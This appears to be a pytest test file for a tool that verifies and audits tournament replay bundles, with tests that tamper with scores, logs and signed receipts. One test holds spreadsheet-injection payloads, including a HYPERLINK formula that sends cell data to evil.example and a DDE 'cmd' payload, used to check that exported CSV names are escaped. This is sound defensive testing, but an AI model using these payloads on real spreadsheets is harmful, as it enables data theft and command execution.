"""The tournament bundle: its format, ``python -m replays verify BUNDLE`` and ``python -m replays audit BUNDLE``.

Two tournament tables between bots are played in memory, exported with their seeds, and bundled with a manifest
whose standings come from ``table_standing``; each test tampers with a copy the way a dishonest organiser might.
"""

from __future__ import annotations

import csv
import io
import random
import subprocess
import sys
from pathlib import Path

import msgspec
import pytest

from replays.__main__ import main
from replays.bundle import verify_bundle
from service.events.envelope import canonical
from service.rules.engine import export_header
from service.rules.free_parking.bundle import (
    CSV_COLUMNS,
    FORMAT,
    BundleError,
    Manifest,
    dump_bundle,
    is_bundle,
    load_bundle,
    standings_csv,
    standings_of,
    table_of,
)
from service.rules.free_parking.standings import PlayerStanding, RoundScore, TableStanding
from service.sim.games import START_AT, new_game, play

from .forge import index_of, replace, with_public

ROOT = Path(__file__).resolve().parents[2]
TABLES = ((3, ("greedy", "random", "greedy")), (2, ("greedy", "greedy")))


def _table(i: int, seats: int, bots: tuple[str, ...]):
    sim = new_game("free-parking", seats, bytes([i + 1]) * 32, f"g-{i}", list(bots), {"mode": "tournament"})
    for _ in play(sim, list(bots), random.Random(i)):
        pass
    return export_header(sim.game, with_seed=True), sim.envelopes


def _manifest(exports, **changes) -> Manifest:
    manifest = Manifest(
        tournament_id="t-spring",
        name="Spring Cup",
        kind="free-parking",
        options=msgspec.Raw(canonical({"mode": "tournament"})),
        created_at=START_AT,
        status="finished",
        tables=[table_of(i, header, envelopes) for i, (header, envelopes) in enumerate(exports)],
        standings=standings_of(exports),
    )
    return replace(manifest, **changes)


@pytest.fixture(scope="module")
def tournament():
    exports = [_table(i, seats, bots) for i, (seats, bots) in enumerate(TABLES)]
    return _manifest(exports), exports


def _write(tmp_path: Path, manifest: Manifest, exports) -> str:
    path = tmp_path / "bundle.ndjson"
    path.write_bytes(b"".join(dump_bundle(manifest, exports)))
    return str(path)


def _verify(tmp_path, capsys, manifest, exports) -> tuple[int, list[str]]:
    code = main(["verify", _write(tmp_path, manifest, exports)])
    return code, capsys.readouterr().out.splitlines()


def test_the_tables_are_tournaments_of_several_rounds_with_specials(tournament):
    manifest, exports = tournament
    assert all(s.finished and s.rounds >= 2 for s in manifest.standings)
    types = {env.type for _, envelopes in exports for env in envelopes}
    assert {"officer_jones_played", "time_expires_played", "talked_out"} <= types


def test_a_bundle_round_trips_byte_for_byte(tournament):
    manifest, exports = tournament
    data = b"".join(dump_bundle(manifest, exports))
    assert is_bundle(data) and not is_bundle(data.split(b"\n", 1)[1])
    assert load_bundle(data) == (manifest, exports)
    assert b"".join(dump_bundle(*load_bundle(data))) == data
    first = msgspec.json.decode(data.split(b"\n", 1)[0])
    assert (first["type"], first["format"]) == ("manifest", FORMAT)


def test_a_good_bundle_verifies(tournament, tmp_path, capsys):
    code, lines = _verify(tmp_path, capsys, *tournament)
    assert code == 0, lines
    assert [line.split(":")[0] for line in lines[:-1]] == ["OK table 0 (game g-0)", "OK table 1 (game g-1)"]
    events = sum(len(envelopes) for _, envelopes in tournament[1])
    assert lines[-1] == (
        f"OK tournament t-spring (Spring Cup): 2 tables, {events} events: every log verified, "
        "the manifest and its standings match the logs"
    )


def test_progress_follows_every_event_of_every_table(tournament):
    manifest, exports = tournament
    seen: list[int] = []
    assert verify_bundle(manifest, exports, progress=seen.append).ok
    assert seen == sorted(seen) and seen[-1] == sum(len(envelopes) for _, envelopes in exports)


def test_the_standings_csv_has_one_row_per_player_per_round(tournament):
    manifest, _ = tournament
    text = standings_csv(manifest)
    assert text.startswith(",".join(CSV_COLUMNS) + "\r\n")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == sum(len(p.rounds) for s in manifest.standings for p in s.players)
    s = manifest.standings[1]
    p = s.players[0]
    r = p.rounds[1]
    row = next(x for x in rows if x["game_id"] == "g-1" and x["name"] == p.name and x["round"] == "2")
    assert row == {
        "tournament_id": "t-spring", "table": "1", "game_id": "g-1", "player_id": "", "name": p.name, "round": "2",
        "seat": str(r.seat), "score": str(r.score), "bonus": str(r.bonus), "total": str(r.total),
        "winner": "yes" if p.winner else "no",
    }  # fmt: skip


def test_the_standings_csv_opens_no_formula_in_a_spreadsheet(tournament):
    """OWASP's CSV injection: a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
    written with a leading ``'``; other text is as it was, and the numbers the service writes stay numbers."""
    manifest, _ = tournament
    names = {
        '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
        "-2+3": "'-2+3",
        "@SUM(A1:A9)": "'@SUM(A1:A9)",
        "\tTab": "'\tTab",
        "\rReturn": "'\rReturn",
        "Ann": "Ann",
        "'Bo": "'Bo",
        "Cy = 1": "Cy = 1",
    }
    rounds = [RoundScore(round=1, seat=0, score=-3, bonus=-1, total=-3)]
    players = [PlayerStanding(player_id="=p" if i == 0 else None, name=name, rounds=rounds) for i, name in enumerate(names)]
    game_id = manifest.standings[0].game_id
    forged = replace(manifest, tournament_id="@t", standings=[TableStanding(game_id=game_id, rounds=1, players=players)])
    rows = list(csv.DictReader(io.StringIO(standings_csv(forged), newline="")))
    assert [row["name"] for row in rows] == list(names.values())
    assert {row["tournament_id"] for row in rows} == {"'@t"} and rows[0]["player_id"] == "'=p"
    assert all((row["score"], row["bonus"], row["total"], row["round"]) == ("-3", "-1", "-3", "1") for row in rows)


def test_a_score_altered_in_the_manifest_names_table_player_and_round(tournament, tmp_path, capsys):
    manifest, exports = tournament
    standings = msgspec.json.decode(msgspec.json.encode(manifest.standings), type=list[TableStanding])
    player = standings[1].players[0]
    true_score = player.rounds[1].score
    player.rounds[1] = replace(player.rounds[1], score=true_score + 25)
    code, lines = _verify(tmp_path, capsys, replace(manifest, standings=standings), exports)
    assert code == 1
    assert f"table 1 (game g-1): player {player.name} round 2: manifest says score {true_score + 25}, the log says {true_score}" in lines
    assert lines[-1] == "REJECTED tournament t-spring (Spring Cup): 2 of 2 logs verified, 1 problem with the manifest"


def test_a_dropped_table_is_named(tournament, tmp_path, capsys):
    manifest, exports = tournament
    code, lines = _verify(tmp_path, capsys, manifest, exports[:1])
    assert code == 1
    assert "table 1 (game g-1): its log is missing from the bundle" in lines


def test_swapped_logs_are_named(tournament, tmp_path, capsys):
    manifest, exports = tournament
    code, lines = _verify(tmp_path, capsys, manifest, exports[::-1])
    assert code == 1
    assert "table 0 (game g-0): out of order: the bundle's log 1 is game g-1 (table 1)" in lines
    assert "table 1 (game g-1): out of order: the bundle's log 2 is game g-0 (table 0)" in lines


def test_a_log_under_another_tables_entry_is_named(tournament, tmp_path, capsys):
    """The manifest's entries swapped instead: each entry's seed, head and count now disagree with its log."""
    manifest, exports = tournament
    first, second = manifest.tables
    tables = [replace(second, table=0, game_id="g-0"), replace(first, table=1, game_id="g-1")]
    code, lines = _verify(tmp_path, capsys, replace(manifest, tables=tables), exports)
    assert code == 1
    assert any(line.startswith("table 0 (game g-0): manifest says head ") for line in lines)
    assert any(line.startswith("table 1 (game g-1): manifest says seed ") for line in lines)


def test_an_event_altered_in_a_log_names_its_table(tournament, tmp_path, capsys):
    manifest, exports = tournament
    header, envelopes = exports[1]
    i = index_of(envelopes, "errand_run")
    forged = envelopes[:i] + [with_public(envelopes[i], points=999)] + envelopes[i + 1 :]
    code, lines = _verify(tmp_path, capsys, manifest, [exports[0], (header, forged)])
    assert code == 1
    assert lines[0].startswith("OK table 0 (game g-0)")
    assert lines[1].startswith(f"REJECTED table 1 (game g-1): seq {i + 1}: ")
    assert lines[-1] == "REJECTED tournament t-spring (Spring Cup): 1 of 2 logs verified"


def test_a_malformed_bundle_is_refused_with_its_line(tournament, tmp_path, capsys):
    manifest, exports = tournament
    lines = b"".join(dump_bundle(manifest, exports)).split(b"\n")
    lines[5] = b'{"not": "an event"}'
    with pytest.raises(BundleError, match="^line 6: neither a table's header"):
        load_bundle(b"\n".join(lines))
    with pytest.raises(BundleError, match="^line 2: an event envelope before any table's header"):
        load_bundle(b"\n".join(lines[:1] + lines[2:]))
    path = tmp_path / "broken.ndjson"
    path.write_bytes(b"\n".join(lines))
    assert main(["verify", str(path)]) == 1
    assert capsys.readouterr().out.startswith(f"REJECTED {path}: line 6: ")


def test_the_audit_tells_each_table_round_special_and_winner(tournament, tmp_path, capsys):
    manifest, exports = tournament
    out_csv = tmp_path / "standings.csv"
    assert main(["audit", _write(tmp_path, manifest, exports), "--csv", str(out_csv)]) == 0
    report = capsys.readouterr().out
    assert report.startswith("Tournament Spring Cup (t-spring): free-parking, 2 tables, finished, created 2026-01-01T00:00:00.000Z")
    assert "Verification: OK tournament t-spring" in report
    for i, (header, envelopes) in enumerate(exports):
        standing = manifest.standings[i]
        assert f"Table {i} (game g-{i}): " in report
        for n in range(1, standing.rounds + 1):
            assert f"round {n} ends: " in report
        for env in envelopes:
            words = {"officer_jones_played": "Officer Jones", "time_expires_played": "Time Expires", "talked_out": "Talk Your Way Out of It"}
            if env.type in words:
                assert f"seq {env.seq}  {words[env.type]}: " in report
        assert f"winner {standing.winner.name} with {standing.winner.total}" in report
    assert out_csv.read_bytes() == standings_csv(manifest).encode()


def test_the_audit_of_a_tampered_bundle_says_so_and_exits_1(tournament, tmp_path, capsys):
    manifest, exports = tournament
    assert main(["audit", "-q", _write(tmp_path, manifest, exports[:1])]) == 1
    report = capsys.readouterr().out
    assert "Verification: REJECTED tournament t-spring" in report
    assert "  table 1 (game g-1): its log is missing from the bundle" in report


def test_a_bundle_verifies_and_audits_without_redis_or_sanic(tournament, tmp_path):
    path = _write(tmp_path, *tournament)
    script = (
        "import sys\n"
        "for name in ('redis', 'sanic', 'fakeredis', 'service.api', 'service.projections', 'service.events.store'):\n"
        "    sys.modules[name] = None  # importing any of them now fails\n"
        "from replays.__main__ import main\n"
        f"sys.exit(main(['verify', {path!r}]) or main(['audit', {path!r}]))\n"
    )
    run = subprocess.run([sys.executable, "-c", script], check=False, cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert run.returncode == 0, run.stdout + run.stderr
    assert "OK tournament t-spring" in run.stdout


def _signed(ring, header, envelopes, versions) -> list:
    from service.events.receipt import Signed

    return [ring.sign(Signed(game_id=header.game_id, version=v, head=envelopes[v - 1].hash, at=envelopes[v - 1].at,
                             key_id=ring.key_id)) for v in versions]


def test_a_players_receipts_are_checked_against_their_own_table_in_the_bundle(tournament, tmp_path, capsys):
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from service.api.signing import Keyring, _entry, public_bytes

    key = Ed25519PrivateKey.generate()
    ring = Keyring(key, [_entry(key, 0)])
    manifest, exports = tournament
    header, envelopes = exports[1]
    kept = _signed(ring, header, envelopes, [5, len(envelopes) // 2, len(envelopes)])
    receipts = tmp_path / "receipts.json"
    receipts.write_bytes(msgspec.json.encode(kept))
    evidence = ["--receipts", str(receipts), "--key", public_bytes(key).hex()]
    bundle = _write(tmp_path, manifest, exports)
    assert main(["verify", bundle, *evidence]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert any(line.startswith("OK g-1: 3 receipts agree") for line in lines), lines
    # a receipt of that table the log disagrees with (another head, signed): the table and version are named
    wrong = replace(kept[1], head="0" * 64)
    receipts.write_bytes(msgspec.json.encode([ring.sign(wrong)]))
    assert main(["verify", bundle, *evidence]) == 1
    assert any(line.startswith(f"REJECTED g-1: seq {kept[1].version}: receipt: head") for line in capsys.readouterr().out.splitlines())
